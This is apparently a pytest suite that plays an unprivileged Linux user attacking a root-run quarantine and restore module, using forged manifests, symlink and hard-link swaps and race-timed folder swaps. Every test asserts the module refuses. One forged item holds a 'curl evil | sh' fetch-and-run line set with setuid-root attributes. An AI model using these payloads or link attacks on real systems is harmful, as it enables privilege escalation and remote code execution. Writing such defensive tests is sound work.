# Copyright: Contributors to loopbreaker.notion
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""A standard user attacks the root-run quarantine on Linux (real accounts; see conftest.py).

Each test lets alice do what any user may do in her own home — forge or swap a
manifest, replace her quarantine, plant links and hard links, swap a directory
for a link at the worst moment (a deterministic hook between operations) — and
then runs the module as root. Each asserts the refusal message and that nothing
outside alice's home changed (a picture of the whole machine before and after).
"""
from __future__ import annotations

import errno
import json
import os
import secrets
import stat
import typing as t
from pathlib import Path

import pytest
from ansible_collections.loopbreaker.notion.plugins.module_utils._batch import HostError
from ansible_collections.loopbreaker.notion.plugins.module_utils._host import RequestError

from .conftest import ENTRY_ID, NOTION_FILES, Account, Machine

FORGED_ID = '20260101T000000Z-abcdef'


def notion_picture(account: Account) -> dict[str, tuple[str, int, int]]:
    """relative path -> (content, uid, mode) of the user's Notion files."""
    found = {}
    for relative in NOTION_FILES:
        path = account.notion / relative
        if path.exists():
            status = path.lstat()
            found[relative] = (path.read_text(encoding='utf-8'), status.st_uid, stat.S_IMODE(status.st_mode))
    return found


def cleared(machine: Machine, account: Account) -> dict[str, t.Any]:
    result = machine.app_data(users=[account.home.name])
    assert 'failed' not in result, result.get('msg')
    assert result['quarantine_id'] == ENTRY_ID
    return result


def unreadable_errors(listed: dict[str, t.Any], account: Account) -> dict[str, str]:
    return {u['path']: u['error'] for u in listed['unreadable'] if u['user'] == account.home.name}


# ------------------------------------------------------------ forged manifests


def test_a_forged_manifest_is_reported_and_never_restored(machine: Machine) -> None:
    alice, bob = machine.alice, machine.bob
    real_etc = Path('/etc') / f'lbt-{secrets.token_hex(4)}-planted'
    targets = [str(machine.secrets / 'planted'), str(real_etc), str(bob.home / '.bash_profile'),
               str(bob.home / '.config' / 'autostart' / 'evil.desktop')]
    alice.run('''
        entry = os.path.join(DATA['quarantine'], DATA['id'])
        os.makedirs(os.path.join(entry, 'items'))
        items = []
        for n, target in enumerate(DATA['targets']):
            name = f'items/{n:03d}-evil'
            with open(os.path.join(entry, name), 'w') as handle:
                handle.write('#!/bin/sh\\ncurl evil | sh\\n')
            items.append({'original_path': target, 'stored_as': name, 'scope': 'cache', 'type': 'file',
                          'bytes': 20, 'files': 1, 'attributes': {'uid': 0, 'gid': 0, 'mode': 0o4755}})
        manifest = {'format': 2, 'id': DATA['id'], 'created': '2026-01-01T00:00:00Z', 'module': 'app_data',
                    'reason': 'forged', 'user': 'alice', 'sid': DATA['sid'], 'platform': 'linux', 'items': items,
                    'entry_dir': entry, 'profile_path': DATA['home']}
        with open(os.path.join(entry, 'manifest.json'), 'w') as handle:
            json.dump(manifest, handle)
    ''', quarantine=str(alice.quarantine), id=FORGED_ID, targets=targets, home=str(alice.home),
              sid=f'uid:{alice.uid}/alice')
    before = machine.outside(alice)
    try:
        listed = machine.quarantine()
        assert listed['entries'] == []
        manifest = str(alice.quarantine / FORGED_ID / 'manifest.json')
        assert unreadable_errors(listed, alice) == {
            manifest: "no trusted record: found only in the user's folder, so it is never acted on"}
        with pytest.raises(RequestError, match=f'^no quarantine entry {FORGED_ID} for the chosen users; nothing was '
                                               'changed$'):
            machine.quarantine(state='restored', id=FORGED_ID, force=True)
        purged = machine.quarantine(state='purged', id=FORGED_ID)
        assert (purged['purged'], purged['changed']) == ([], False)
        assert machine.outside(alice) == before
        assert not real_etc.exists()
    finally:
        real_etc.unlink(missing_ok=True)


def test_a_tampered_copy_of_a_real_entry_changes_nothing_but_is_reported(machine: Machine) -> None:
    alice, bob = machine.alice, machine.bob
    original = notion_picture(alice)
    cleared(machine, alice)
    alice.run('''
        path = DATA['manifest']
        manifest = json.load(open(path))
        for item in manifest['items']:
            item['original_path'] = DATA['bob'] + '/.bashrc'
        json.dump(manifest, open(path, 'w'))
    ''', manifest=str(alice.quarantine / ENTRY_ID / 'manifest.json'), bob=str(bob.home))
    before = machine.outside(alice)
    listed = machine.quarantine()
    assert unreadable_errors(listed, alice) == {
        str(alice.quarantine / ENTRY_ID / 'manifest.json'): 'differs from the trusted record; the trusted record is used'}
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert 'failed' not in restored
    assert notion_picture(alice) == original
    assert machine.outside(alice) == before


# ------------------------------------------------------------------ links


def test_a_manifest_symlink_is_not_followed_for_reading_or_writing(machine: Machine) -> None:
    alice = machine.alice
    original = notion_picture(alice)
    cleared(machine, alice)
    alice.run('''
        os.unlink(DATA['manifest'])
        os.symlink(DATA['secret'], DATA['manifest'])
    ''', manifest=str(alice.quarantine / ENTRY_ID / 'manifest.json'), secret=str(machine.secrets / 'shadow'))
    before = machine.outside(alice)
    listed = machine.quarantine()
    assert unreadable_errors(listed, alice) == {
        str(alice.quarantine / ENTRY_ID / 'manifest.json'): 'unreadable (it is a symbolic link; not followed)'}
    assert 'root-only secret' not in json.dumps(listed)
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert 'failed' not in restored
    assert notion_picture(alice) == original
    assert machine.outside(alice) == before
    assert (machine.secrets / 'shadow').read_text(encoding='utf-8') == 'root-only secret\n'


def test_an_entry_swapped_for_a_link_to_a_root_only_folder_is_never_entered(machine: Machine) -> None:
    alice = machine.alice
    cleared(machine, alice)
    entry = alice.quarantine / ENTRY_ID
    alice.run('''
        os.rename(DATA['entry'], DATA['entry'] + '.mine')
        os.symlink(DATA['secrets'], DATA['entry'])
    ''', entry=str(entry), secrets=str(machine.secrets))
    before = machine.outside(alice)
    listed = machine.quarantine()
    assert {i['in_quarantine'] for i in listed['entries'][0]['items']} == {False}
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert {o['action'] for o in restored['restored']} == {'not_in_quarantine'}
    assert not (alice.notion / 'Cache').exists()
    purged = machine.quarantine(state='purged', id=ENTRY_ID)
    assert 'failed' not in purged
    assert not os.path.lexists(entry), 'the link itself is removed, never followed'
    assert machine.outside(alice) == before
    assert sorted(os.listdir(machine.secrets / 'items' / '000-Cache')) == ['key']


def test_a_quarantine_replaced_wholesale_with_links_is_refused(machine: Machine) -> None:
    alice = machine.alice
    cleared(machine, alice)
    listed = {i['original_path']: i for i in machine.quarantine()['entries'][0]['items']}
    cache = listed[str(alice.notion / 'Cache')]
    alice.run('''
        os.rename(DATA['quarantine'], DATA['quarantine'] + '.old')
        items = os.path.join(DATA['quarantine'], DATA['id'], 'items')
        os.makedirs(items)
        os.symlink(DATA['target'], os.path.join(items, '000-Cache'))
    ''', quarantine=str(alice.quarantine), id=ENTRY_ID, target=str(machine.secrets / 'items' / '000-Cache'))
    assert cache['type'] == 'directory'
    before = machine.outside(alice)
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert restored['failed'] is True
    stored = alice.quarantine / ENTRY_ID / 'items' / '000-Cache'
    assert f"Refusing to move '{stored}': it is a link, expected a directory." in restored['msg']
    assert not os.path.lexists(alice.notion / 'Cache')
    assert machine.outside(alice) == before


def test_an_entry_copied_from_another_users_quarantine_is_not_theirs(machine: Machine) -> None:
    alice, bob = machine.alice, machine.bob
    bob_original = notion_picture(bob)
    cleared(machine, bob)
    copy = alice.quarantine / ENTRY_ID
    copy.parent.mkdir(parents=True)
    os.system(f"cp -a '{bob.quarantine / ENTRY_ID}' '{copy}' && chown -R {alice.uid}:{alice.gid} '{alice.home}'")
    before_alice = machine.picture()
    with pytest.raises(RequestError, match=f'^no quarantine entry {ENTRY_ID} for the chosen users; nothing was changed$'):
        machine.quarantine(state='restored', id=ENTRY_ID, users=['alice'])
    assert machine.picture() == before_alice
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert {o['user'] for o in restored['restored']} == {'bob'}
    assert notion_picture(bob) == bob_original
    assert (copy / 'manifest.json').exists(), "alice's copy is left alone"


def test_a_hard_link_to_a_root_file_is_never_restored_or_chowned(machine: Machine) -> None:
    alice = machine.alice
    cleared(machine, alice)
    items = {i['original_path']: i for i in machine.quarantine()['entries'][0]['items']}
    database = items[str(alice.notion / 'notion.db')]
    stored = alice.quarantine / ENTRY_ID / 'items' / Path(_stored_as(machine, alice, 'notion.db')).name
    secret = machine.secrets / 'shadow'
    # protected_hardlinks=1 stops a user from linking a file they do not own; a machine with it off
    # lets them, so make the link as root.
    stored.unlink()
    os.link(secret, stored)
    before = machine.outside(alice)
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert database['type'] == 'file'
    assert restored['failed'] is True
    assert f"Refusing to move '{stored}': it has 2 hard links." in restored['msg']
    assert secret.stat().st_uid == 0 and stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert machine.outside(alice) == before


def test_a_root_owned_inode_in_the_quarantine_is_not_given_to_the_user(machine: Machine) -> None:
    alice = machine.alice
    cleared(machine, alice)
    stored = alice.quarantine / ENTRY_ID / _stored_as(machine, alice, 'notion.db')
    stored.unlink()
    stored.write_text('root file dropped in', encoding='utf-8')      # owned by root, one link
    os.chmod(stored, 0o600)
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert restored['failed'] is True
    assert f"Refusing to move '{stored}': it belongs to uid 0, neither its recorded owner nor the owner of the home" \
        in restored['msg']
    assert stored.stat().st_uid == 0 and not (alice.notion / 'notion.db').exists()


def _stored_as(machine: Machine, account: Account, relative: str) -> str:
    for record in (machine.state / 'records' / 'quarantine').iterdir():
        manifest = json.loads(record.read_text(encoding='utf-8'))
        if manifest['sid'].startswith(f'uid:{account.uid}/'):
            for item in manifest['items']:
                if item['original_path'] == str(account.notion / relative):
                    return str(item['stored_as'])
    raise AssertionError(f'no record item for {relative}')


# ------------------------------------------------------- swaps at the worst moment


def test_notion_folder_swapped_for_a_link_to_another_users_data_between_probe_and_apply(machine: Machine) -> None:
    alice, bob = machine.alice, machine.bob
    bob_before = machine.picture()
    bob_before = {k: v for k, v in bob_before.items() if k.startswith('homes/bob')}

    def swap(event: str, operation: dict[str, t.Any]) -> None:
        if operation['op'] == 'move_path' and not os.path.islink(alice.notion):
            alice.run('''
                os.rename(DATA['notion'], DATA['notion'] + '.real')
                os.symlink(DATA['bob'], DATA['notion'])
            ''', notion=str(alice.notion), bob=str(bob.notion))
    machine.hooks.append(swap)
    result = machine.app_data(users=['alice'])
    assert result['failed'] is True
    assert f"Refusing to follow the symbolic link '{alice.notion}'." in result['msg']
    assert {k: v for k, v in machine.picture().items() if k.startswith('homes/bob')} == bob_before
    items = alice.quarantine / ENTRY_ID / 'items'
    assert not items.exists() or not any(items.iterdir())


@pytest.mark.parametrize('moment', ['write_record', 'write_file', 'move_path'])
def test_entry_swapped_for_a_link_to_a_root_only_folder_during_a_clear(machine: Machine, moment: str) -> None:
    alice = machine.alice
    entry = alice.quarantine / ENTRY_ID

    def swap(event: str, operation: dict[str, t.Any]) -> None:
        if operation['op'] == moment and not os.path.islink(entry):
            alice.run('''
                os.rename(DATA['entry'], DATA['entry'] + '.mine')
                os.symlink(DATA['secrets'], DATA['entry'])
            ''', entry=str(entry), secrets=str(machine.secrets))
    machine.hooks.append(swap)
    before = machine.picture(skip=alice.home)
    result = machine.app_data(users=['alice'])
    assert result['failed'] is True
    assert f"Refusing to follow the symbolic link '{entry}'." in result['msg']
    after = machine.picture(skip=alice.home)
    # Outside alice's home only the trusted record of the planned entry may have appeared.
    assert {k: v for k, v in after.items() if not k.startswith('state')} == \
        {k: v for k, v in before.items() if not k.startswith('state')}
    assert notion_picture(alice) == _notion_seeded(alice)


def _notion_seeded(account: Account) -> dict[str, tuple[str, int, int]]:
    return {relative: (content, account.uid, mode) for relative, (content, mode) in NOTION_FILES.items()}


# ------------------------------------------------------------ owner and mode


def test_restore_puts_back_the_recorded_owner_and_mode_not_the_users_chmod(machine: Machine) -> None:
    alice = machine.alice
    assert notion_picture(alice) == _notion_seeded(alice)
    cleared(machine, alice)
    stored = alice.quarantine / ENTRY_ID / _stored_as(machine, alice, 'notion.db')
    alice.run('os.chmod(DATA["path"], 0o6777)', path=str(stored))
    assert stat.S_IMODE(stored.stat().st_mode) == 0o6777
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert 'failed' not in restored
    assert notion_picture(alice) == _notion_seeded(alice)


# -------------------------------------------------------------------- faults


def test_a_full_disk_mid_clear_is_reported_per_user_with_what_was_moved(machine: Machine) -> None:
    alice, bob = machine.alice, machine.bob
    moves = {'alice': 0}

    def fill(event: str, operation: dict[str, t.Any]) -> None:
        if operation['op'] == 'move_path' and operation['source'].startswith(str(alice.home)):
            moves['alice'] += 1
            if moves['alice'] == 2:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), operation['destination'])
    machine.hooks.append(fill)
    result = machine.app_data()
    users = {u['user']: u for u in result['users']}
    assert result['changed'] is True and result['failed'] is True
    assert [i['action'] for i in users['alice']['items']] == ['quarantined', 'failed', 'skipped']
    assert 'No space left on device' in users['alice']['items'][1]['error']
    assert users['alice']['status'] == 'failed' and users['bob']['status'] == 'cleared'
    assert all(i['action'] == 'quarantined' for i in users['bob']['items'])
    machine.hooks.clear()
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert 'failed' not in restored
    assert notion_picture(alice) == _notion_seeded(alice) and notion_picture(bob) == _notion_seeded(bob)


def test_a_missing_or_unwritable_quarantine_fails_that_user_only(machine: Machine) -> None:
    alice, bob = machine.alice, machine.bob
    alice.run('''
        os.makedirs(os.path.dirname(DATA['root']), exist_ok=True)
        open(DATA['root'], 'w').close()
    ''', root=str(alice.home / '.local' / 'share' / 'loopbreaker'))
    result = machine.app_data()
    users = {u['user']: u for u in result['users']}
    assert result['failed'] is True
    assert users['alice']['status'] == 'failed' and users['bob']['status'] == 'cleared'
    assert "Refusing to follow the non-directory" in users['alice']['errors'][0]
    assert notion_picture(alice) == _notion_seeded(alice)


def test_a_home_that_fills_during_restore_can_be_restored_again(machine: Machine) -> None:
    alice = machine.alice
    cleared(machine, alice)
    calls = {'n': 0}

    def fill(event: str, operation: dict[str, t.Any]) -> None:
        if operation['op'] == 'move_path':
            calls['n'] += 1
            if calls['n'] == 2:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), operation['destination'])
    machine.hooks.append(fill)
    first = machine.quarantine(state='restored', id=ENTRY_ID)
    assert first['failed'] is True
    assert [o['action'] for o in first['restored']] == ['restored', 'failed', 'skipped']
    assert machine.quarantine()['entries'][0]['restored'] is None, 'still held: the tombstone was not written'
    machine.hooks.clear()
    second = machine.quarantine(state='restored', id=ENTRY_ID)
    assert 'failed' not in second
    assert notion_picture(alice) == _notion_seeded(alice)


def test_a_second_concurrent_run_waits_then_refuses_cleanly(machine: Machine) -> None:
    holder = machine.host()
    holder.run_batch([{'op': 'get_profiles', 'shell_folders': {}}])
    try:
        before = machine.picture()
        second = machine.host(lock_timeout=0.3)
        with pytest.raises(HostError, match=r'^another loopbreaker.notion run has held .*/lock for 0.3 s; nothing was '
                                            r'changed$'):
            second.run_batch([{'op': 'get_profiles', 'shell_folders': {}}])
        assert machine.picture() == before
    finally:
        holder.release()
    assert 'failed' not in machine.app_data()


def test_the_state_directory_must_be_root_only(machine: Machine) -> None:
    machine.state.mkdir(mode=0o700)
    os.chown(machine.state, machine.alice.uid, machine.alice.gid)     # a user pre-created it
    before = machine.outside(machine.alice)
    with pytest.raises(HostError, match=f"^cannot take the host lock in {machine.state}: Refusing the state directory: "
                                        f"'{machine.state}' belongs to uid {machine.alice.uid}. Nothing was changed.$"):
        machine.app_data()
    assert machine.outside(machine.alice) == before
    assert notion_picture(machine.alice) == _notion_seeded(machine.alice)


def test_a_non_utf8_or_huge_manifest_of_one_user_never_stops_another_users_restore(machine: Machine) -> None:
    alice, bob = machine.alice, machine.bob
    cleared(machine, bob)
    alice.run('''
        for name, data in (('20260101T000000Z-000001', b'\\xff\\xfe{'), ('20260101T000000Z-000002', b'{' * 3000000)):
            os.makedirs(os.path.join(DATA['quarantine'], name))
            with open(os.path.join(DATA['quarantine'], name, 'manifest.json'), 'wb') as handle:
                handle.write(data)
    ''', quarantine=str(alice.quarantine))
    listed = machine.quarantine()
    assert sorted(unreadable_errors(listed, alice).values()) == [
        'unreadable (it is larger than 1048576 bytes)', 'unreadable (it is not UTF-8 text)']
    restored = machine.quarantine(state='restored', id=ENTRY_ID)
    assert 'failed' not in restored
    assert notion_picture(bob) == _notion_seeded(bob)
